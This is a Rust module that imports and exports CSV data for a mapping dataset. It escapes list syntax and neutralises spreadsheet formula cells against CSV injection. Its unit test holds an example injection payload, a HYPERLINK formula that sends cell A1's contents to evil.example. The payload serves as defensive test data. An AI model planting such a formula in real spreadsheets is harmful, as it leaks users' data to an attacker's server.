//! CSV: one row a record, the GeoJSON property names as columns (docs/data-format.md).
//!
//! Rows become the same properties as GeoJSON features, so the checks are shared. Lists are
//! `;`-separated, evidence is `source@locator#grade`, milestones are the `announced`,
//! `groundbreaking` and `inauguration` columns (`~` before an approximate date) with
//! `*_evidence` beside them, disputes are `field=value@evidence` joined by ` | ` (a note may
//! follow after ` -- `), people are `people_min`, `people_max`, `people_wording`, and points
//! are `lon`, `lat`. Inside lists a backslash escapes `; # @ | = \` (a locator such as
//! `location\; renovation`).
//!
//! Cells a spreadsheet would run as a formula are neutralised on export the way OWASP's "CSV
//! Injection" guidance and ASVS 5.0 (1.2.10) ask: a single quote before a cell that starts with
//! `=`, `+`, `-`, `@`, tab, carriage return or NUL ([`neutralise`]). The reader takes exactly
//! that quote off again ([`unneutralise`]), so nkmap reads its own exports back unchanged; a
//! value that itself starts with quotes before such a character gets one more quote, so the
//! mapping is one to one.

use super::{Diagnostic, Location};
use crate::io::record::{RawRecord, milestone_name};
use crate::model::{Dataset, Dispute, Evidence, Milestone, MilestoneKind};
use serde_json::{Map, Value, json};
use std::borrow::Cow;

/// What makes a spreadsheet read a cell as a formula when it comes first (OWASP's list, and
/// NUL from ASVS 5.0 1.2.10).
const FORMULA_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

/// The cell, past any leading single quotes, starts as a formula would.
fn formula_like(cell: &str) -> bool {
    cell.trim_start_matches('\'').starts_with(FORMULA_START)
}

/// A cell as the exporter writes it: a single quote before anything a spreadsheet would run
/// (`=HYPERLINK(…)` becomes `'=HYPERLINK(…)`, shown as text), and before a value that already
/// starts with quotes and then such a character (`'=x` becomes `''=x`).
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if formula_like(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell as the reader takes it: [`neutralise`] undone (exactly one leading quote removed
/// when a formula character follows the quotes).
pub fn unneutralise(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if formula_like(rest) => rest,
        _ => cell,
    }
}

/// Columns in the order the writer puts them.
pub const COLUMNS: &[&str] = &[
    "record",
    "id",
    "name",
    "title",
    "who",
    "category",
    "kind",
    "products",
    "place",
    "from",
    "to",
    "region_id",
    "precision",
    "lon",
    "lat",
    "cohort",
    "date",
    "start",
    "end",
    "announced",
    "announced_evidence",
    "groundbreaking",
    "groundbreaking_evidence",
    "inauguration",
    "inauguration_evidence",
    "people_min",
    "people_max",
    "people_wording",
    "shift_months",
    "evidence",
    "disputes",
    "publisher",
    "authors",
    "url",
    "doc_id",
    "language",
    "note",
    "notes",
];

const MILESTONES: [MilestoneKind; 3] = [
    MilestoneKind::Announced,
    MilestoneKind::Groundbreaking,
    MilestoneKind::Inauguration,
];

/// Byte offsets of `ch` where it is not escaped with a backslash.
fn unescaped(s: &str, ch: char) -> Vec<usize> {
    let mut out = Vec::new();
    let mut escaped = false;
    for (i, c) in s.char_indices() {
        if escaped {
            escaped = false;
        } else if c == '\\' {
            escaped = true;
        } else if c == ch {
            out.push(i);
        }
    }
    out
}

fn split_unescaped(s: &str, ch: char) -> Vec<&str> {
    let mut out = Vec::new();
    let mut start = 0;
    for i in unescaped(s, ch) {
        out.push(&s[start..i]);
        start = i + ch.len_utf8();
    }
    out.push(&s[start..]);
    out
}

fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut escaped = false;
    for c in s.chars() {
        if !escaped && c == '\\' {
            escaped = true;
            continue;
        }
        escaped = false;
        out.push(c);
    }
    out
}

/// Backslash before the characters the list syntax uses, so a locator like
/// "location; renovation" survives.
fn escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if matches!(c, '\\' | ';' | '#' | '@' | '|' | '=') {
            out.push('\\');
        }
        out.push(c);
    }
    out
}

fn split_list(s: &str) -> Vec<String> {
    split_unescaped(s, ';')
        .into_iter()
        .map(str::trim)
        .filter(|x| !x.is_empty())
        .map(unescape)
        .collect()
}

/// `source@locator#grade` → an evidence object (grade and locator checked later).
fn evidence_item(s: &str) -> Result<Value, String> {
    let hash = unescaped(s, '#')
        .last()
        .copied()
        .ok_or_else(|| crate::t!("diag-csv-evidence-grade", evidence = s))?;
    let (rest, grade) = (&s[..hash], &s[hash + 1..]);
    let (source, locator) = match unescaped(rest, '@').first() {
        Some(&at) => (&rest[..at], Some(&rest[at + 1..])),
        None => (rest, None),
    };
    let mut obj = Map::new();
    obj.insert("source".into(), json!(unescape(source.trim())));
    if let Some(l) = locator {
        obj.insert("locator".into(), json!(unescape(l.trim())));
    }
    obj.insert("grade".into(), json!(grade.trim()));
    Ok(Value::Object(obj))
}

fn evidence_list(s: &str) -> Result<Value, String> {
    split_unescaped(s, ';')
        .into_iter()
        .map(str::trim)
        .filter(|x| !x.is_empty())
        .map(evidence_item)
        .collect::<Result<Vec<_>, _>>()
        .map(Value::Array)
}

fn dispute_item(s: &str) -> Result<Value, String> {
    // The note, if any, follows the first " -- " and runs to the end of the entry.
    let (body, note) = match s.split_once(" -- ") {
        Some((b, n)) => (b, Some(unescape(n.trim()))),
        None => (s, None),
    };
    let eq = unescaped(body, '=')
        .first()
        .copied()
        .ok_or_else(|| crate::t!("diag-csv-dispute", dispute = s))?;
    let (field, rest) = (&body[..eq], &body[eq + 1..]);
    let (value, evidence) = match unescaped(rest, '@').first() {
        Some(&at) => (&rest[..at], evidence_list(&rest[at + 1..])?),
        None => (rest, Value::Array(Vec::new())),
    };
    let mut obj = Map::new();
    obj.insert("field".into(), json!(unescape(field.trim())));
    obj.insert("value".into(), json!(unescape(value.trim())));
    obj.insert("evidence".into(), evidence);
    if let Some(n) = note {
        obj.insert("note".into(), json!(n));
    }
    Ok(Value::Object(obj))
}

fn number(col: &str, s: &str) -> Result<f64, String> {
    let x: f64 = s
        .trim()
        .parse()
        .map_err(|_| crate::t!("diag-csv-not-number", column = col, value = s))?;
    if x.is_finite() {
        Ok(x)
    } else {
        Err(crate::t!("diag-csv-not-finite", column = col, value = s))
    }
}

fn integer(col: &str, s: &str) -> Result<Value, String> {
    s.trim()
        .parse::<i64>()
        .map(Value::from)
        .map_err(|_| crate::t!("diag-csv-not-whole", column = col, value = s))
}

/// One row as feature properties and geometry.
fn row_to_raw(header: &[String], row: &::csv::StringRecord) -> Result<RawRecord, Vec<String>> {
    let mut props = Map::new();
    let mut errors = Vec::new();
    let mut lon = None;
    let mut lat = None;
    let mut people = Map::new();
    let mut milestones: Vec<(usize, Map<String, Value>)> = Vec::new();
    let cell = |name: &str| -> Option<&str> {
        header
            .iter()
            .position(|h| h == name)
            .and_then(|i| row.get(i))
            .map(str::trim)
            .filter(|v| !v.is_empty())
    };
    for (col, value) in header.iter().zip(row.iter()) {
        let value = value.trim();
        if value.is_empty() {
            continue;
        }
        let col = col.as_str();
        let r: Result<(), String> = (|| {
            match col {
                "lon" => lon = Some(number(col, value)?),
                "lat" => lat = Some(number(col, value)?),
                "cohort" | "shift_months" => {
                    props.insert(col.into(), integer(col, value)?);
                }
                "people_min" | "people_max" => {
                    people.insert(
                        col.trim_start_matches("people_").into(),
                        integer(col, value)?,
                    );
                }
                "people_wording" => {
                    people.insert("wording".into(), json!(value));
                }
                "to" | "authors" | "to_region_ids" => {
                    props.insert(col.into(), json!(split_list(value)));
                }
                "evidence" => {
                    props.insert(col.into(), evidence_list(value)?);
                }
                "disputes" => {
                    let items = split_unescaped(value, '|')
                        .into_iter()
                        .filter(|d| !d.trim().is_empty())
                        .map(|d| dispute_item(d.trim()))
                        .collect::<Result<Vec<_>, _>>()?;
                    props.insert(col.into(), Value::Array(items));
                }
                "announced" | "groundbreaking" | "inauguration" => {
                    let (approximate, date) = match value.strip_prefix('~') {
                        Some(d) => (true, d.trim()),
                        None => (false, value),
                    };
                    let mut m = Map::new();
                    m.insert("kind".into(), json!(col));
                    m.insert("date".into(), json!(date));
                    if approximate {
                        m.insert("approximate".into(), json!(true));
                    }
                    let ev = cell(&format!("{col}_evidence")).unwrap_or("");
                    m.insert("evidence".into(), evidence_list(ev)?);
                    let order = MILESTONES
                        .iter()
                        .position(|k| milestone_name(*k) == col)
                        .unwrap_or(0);
                    milestones.push((order, m));
                }
                c if c.ends_with("_evidence") => {}
                _ => {
                    props.insert(col.into(), json!(value));
                }
            }
            Ok(())
        })();
        if let Err(e) = r {
            errors.push(e);
        }
    }
    if !people.is_empty() {
        props.insert("people".into(), Value::Object(people));
    }
    if !milestones.is_empty() {
        milestones.sort_by_key(|(o, _)| *o);
        props.insert(
            "milestones".into(),
            Value::Array(
                milestones
                    .into_iter()
                    .map(|(_, m)| Value::Object(m))
                    .collect(),
            ),
        );
    }
    let geometry = match (lon, lat) {
        (Some(x), Some(y)) => json!({"type": "Point", "coordinates": [x, y]}),
        (None, None) => Value::Null,
        _ => {
            errors.push(crate::t!("diag-csv-lon-lat"));
            Value::Null
        }
    };
    if errors.is_empty() {
        Ok(RawRecord { props, geometry })
    } else {
        Err(errors)
    }
}

/// Rows of a CSV file as raw records. `None` when the file has no usable header.
pub(crate) fn read_rows(
    text: &str,
    file: &str,
) -> (Option<Vec<(Location, RawRecord)>>, Vec<Diagnostic>) {
    let mut diags = Vec::new();
    let mut reader = ::csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(text.as_bytes());
    let header: Vec<String> = match reader.headers() {
        Ok(h) => h.iter().map(|c| c.trim().to_string()).collect(),
        Err(e) => {
            diags.push(Diagnostic::error(
                file,
                Location::File,
                crate::t!("diag-csv-invalid", error = e.to_string()),
            ));
            return (None, diags);
        }
    };
    if !header.iter().any(|h| h == "record") {
        diags.push(Diagnostic::error(
            file,
            Location::Row { line: 1, id: None },
            crate::t!("diag-csv-no-record-column"),
        ));
        return (None, diags);
    }
    for h in &header {
        let known = COLUMNS.contains(&h.as_str()) || h == "to_region_ids" || h.is_empty();
        if !known {
            diags.push(Diagnostic::warning(
                file,
                Location::Row { line: 1, id: None },
                crate::t!("diag-csv-unknown-column", column = h),
            ));
        }
    }
    let mut rows = Vec::new();
    let mut record = ::csv::StringRecord::new();
    loop {
        let line = reader.position().line() as usize;
        match reader.read_record(&mut record) {
            Ok(false) => break,
            Ok(true) => {}
            Err(e) => {
                let line = e.position().map_or(line, |p| p.line() as usize);
                diags.push(Diagnostic::error(
                    file,
                    Location::Row { line, id: None },
                    crate::t!("diag-csv-invalid", error = e.to_string()),
                ));
                continue;
            }
        }
        let line = record.position().map_or(line, |p| p.line() as usize);
        let record: ::csv::StringRecord = record.iter().map(|c| unneutralise(c.trim())).collect();
        if record.iter().all(|c| c.trim().is_empty()) {
            continue;
        }
        let id = header
            .iter()
            .position(|h| h == "id")
            .and_then(|i| record.get(i))
            .map(|s| super::short_id(s.trim()))
            .filter(|s| !s.is_empty());
        let loc = Location::Row { line, id };
        if record.len() != header.len() {
            diags.push(Diagnostic::error(
                file,
                loc,
                crate::t!(
                    "diag-csv-field-count",
                    fields = record.len(),
                    header = header.len()
                ),
            ));
            continue;
        }
        match row_to_raw(&header, &record) {
            Ok(raw) => rows.push((loc, raw)),
            Err(errors) => {
                for e in errors {
                    diags.push(Diagnostic::error(file, loc.clone(), e));
                }
            }
        }
    }
    (Some(rows), diags)
}

fn evidence_text(ev: &[Evidence]) -> String {
    ev.iter()
        .map(|e| match &e.locator {
            Some(l) => format!("{}@{}#{}", escape(&e.source), escape(l), e.grade.code()),
            None => format!("{}#{}", escape(&e.source), e.grade.code()),
        })
        .collect::<Vec<_>>()
        .join(";")
}

/// A backslash before each `-` of a run of two or more in an escaped dispute (its field,
/// value and evidence), so it can never hold, or make with the separator after it, the ` -- `
/// that starts the note. (`escape` makes no dashes, so runs are the text's own.)
fn escape_dash_runs(s: &str) -> String {
    let chars: Vec<char> = s.chars().collect();
    let mut out = String::with_capacity(s.len());
    for (i, c) in chars.iter().enumerate() {
        let run = *c == '-'
            && (i.checked_sub(1).and_then(|j| chars.get(j)) == Some(&'-')
                || chars.get(i + 1) == Some(&'-'));
        if run {
            out.push('\\');
        }
        out.push(*c);
    }
    out
}

fn disputes_text(d: &[Dispute]) -> String {
    d.iter()
        .map(|d| {
            let mut s = format!("{}={}", escape(&d.field), escape(&d.value));
            if !d.evidence.is_empty() {
                s.push('@');
                s.push_str(&evidence_text(&d.evidence));
            }
            let mut s = escape_dash_runs(&s);
            if let Some(n) = d.note.as_ref().filter(|n| !n.is_empty()) {
                s.push_str(" -- ");
                s.push_str(&escape(n));
            }
            s
        })
        .collect::<Vec<_>>()
        .join(" | ")
}

fn list_text(items: &[String]) -> String {
    items
        .iter()
        .map(|s| escape(s))
        .collect::<Vec<_>>()
        .join(";")
}

fn enum_text<T: serde::Serialize>(v: &T) -> String {
    match serde_json::to_value(v) {
        Ok(Value::String(s)) => s,
        _ => String::new(),
    }
}

fn milestone_cells(row: &mut [String], milestones: &[Milestone]) {
    // One column per kind holds the claim; observations from imagery have no column (GeoJSON
    // keeps them).
    for m in milestones.iter().filter(|m| !m.is_observation()) {
        let name = milestone_name(m.kind);
        let date = if m.approximate {
            format!("~{}", m.date)
        } else {
            m.date.to_string()
        };
        set(row, name, date);
        set(row, &format!("{name}_evidence"), evidence_text(&m.evidence));
    }
}

fn set(row: &mut [String], col: &str, value: String) {
    if let Some(i) = COLUMNS.iter().position(|c| *c == col) {
        row[i] = value;
    }
}

/// The dataset as CSV, readable back into the same dataset.
pub fn write_csv(data: &Dataset) -> String {
    let mut w = ::csv::WriterBuilder::new().from_writer(Vec::new());
    let mut rows: Vec<Vec<String>> = Vec::new();
    let blank = || vec![String::new(); COLUMNS.len()];
    for s in &data.sources {
        let mut r = blank();
        set(&mut r, "record", "source".into());
        set(&mut r, "id", s.id.clone());
        set(&mut r, "publisher", s.publisher.clone());
        set(&mut r, "title", s.title.clone());
        set(&mut r, "authors", list_text(&s.authors));
        set(
            &mut r,
            "date",
            s.date.map(|d| d.to_string()).unwrap_or_default(),
        );
        set(&mut r, "url", s.url.clone().unwrap_or_default());
        set(&mut r, "doc_id", s.doc_id.clone().unwrap_or_default());
        set(&mut r, "language", s.language.clone());
        set(&mut r, "kind", enum_text(&s.kind));
        set(&mut r, "note", s.note.clone().unwrap_or_default());
        rows.push(r);
    }
    for s in &data.sites {
        let mut r = blank();
        set(&mut r, "record", "site".into());
        set(&mut r, "id", s.id.clone());
        set(&mut r, "name", s.name.clone());
        set(&mut r, "category", enum_text(&s.category));
        set(&mut r, "products", s.products.clone().unwrap_or_default());
        set(&mut r, "place", s.place.clone());
        set(&mut r, "region_id", s.region_id.clone().unwrap_or_default());
        set(&mut r, "precision", enum_text(&s.precision));
        if let Some(p) = s.location {
            set(&mut r, "lon", p.x().to_string());
            set(&mut r, "lat", p.y().to_string());
        }
        set(
            &mut r,
            "cohort",
            s.cohort.map(|c| c.to_string()).unwrap_or_default(),
        );
        milestone_cells(&mut r, &s.milestones);
        set(&mut r, "evidence", evidence_text(&s.evidence));
        set(&mut r, "disputes", disputes_text(&s.disputes));
        set(&mut r, "notes", s.notes.clone().unwrap_or_default());
        rows.push(r);
    }
    for f in &data.flows {
        let mut r = blank();
        set(&mut r, "record", "flow".into());
        set(&mut r, "id", f.id.clone());
        set(&mut r, "who", f.who.clone());
        set(&mut r, "from", f.from.clone());
        set(&mut r, "to", list_text(&f.to));
        set(
            &mut r,
            "region_id",
            f.from_region.clone().unwrap_or_default(),
        );
        if let Some(p) = &f.people {
            set(
                &mut r,
                "people_min",
                p.min.map(|n| n.to_string()).unwrap_or_default(),
            );
            set(
                &mut r,
                "people_max",
                p.max.map(|n| n.to_string()).unwrap_or_default(),
            );
            set(
                &mut r,
                "people_wording",
                p.wording.clone().unwrap_or_default(),
            );
        }
        set(
            &mut r,
            "shift_months",
            f.shift_months.map(|n| n.to_string()).unwrap_or_default(),
        );
        set(
            &mut r,
            "start",
            f.start.map(|d| d.to_string()).unwrap_or_default(),
        );
        set(
            &mut r,
            "end",
            f.end.map(|d| d.to_string()).unwrap_or_default(),
        );
        set(&mut r, "evidence", evidence_text(&f.evidence));
        set(&mut r, "disputes", disputes_text(&f.disputes));
        set(&mut r, "notes", f.notes.clone().unwrap_or_default());
        rows.push(r);
    }
    for e in &data.events {
        let mut r = blank();
        set(&mut r, "record", "event".into());
        set(&mut r, "id", e.id.clone());
        set(&mut r, "kind", enum_text(&e.kind));
        set(&mut r, "title", e.title.clone());
        set(&mut r, "place", e.place.clone().unwrap_or_default());
        set(&mut r, "region_id", e.region_id.clone().unwrap_or_default());
        set(&mut r, "precision", enum_text(&e.precision));
        if let Some(p) = e.location {
            set(&mut r, "lon", p.x().to_string());
            set(&mut r, "lat", p.y().to_string());
        }
        set(
            &mut r,
            "date",
            e.date.map(|d| d.to_string()).unwrap_or_default(),
        );
        set(&mut r, "evidence", evidence_text(&e.evidence));
        set(&mut r, "disputes", disputes_text(&e.disputes));
        set(&mut r, "notes", e.notes.clone().unwrap_or_default());
        rows.push(r);
    }
    // Writing to a Vec cannot fail; an error here would mean a bug in the csv crate.
    let _ = w.write_record(COLUMNS);
    for r in &rows {
        let _ = w.write_record(r.iter().map(|c| neutralise(c).into_owned()));
    }
    let bytes = w.into_inner().unwrap_or_default();
    String::from_utf8(bytes).unwrap_or_default()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_quoted_and_read_back() {
        for (value, written) in [
            (
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "'=HYPERLINK",
            ),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM"),
            ("\tx", "'\tx"),
            ("\rx", "'\rx"),
            ("\0x", "'\0x"),
            // Quotes before a formula character get one more, so they survive.
            ("'=x", "''=x"),
            ("''+x", "'''+x"),
            // Nothing to do: plain text, a quote before text, a formula character later.
            ("Kusong", "Kusong"),
            ("'tis", "'tis"),
            ("a=b", "a=b"),
            ("'", "'"),
        ] {
            let cell = neutralise(value);
            assert!(cell.starts_with(written), "{value:?} written as {cell:?}");
            assert!(
                !cell.starts_with(FORMULA_START),
                "{value:?} written as {cell:?}"
            );
            assert_eq!(unneutralise(&cell), value, "{value:?} via {cell:?}");
        }
    }
}
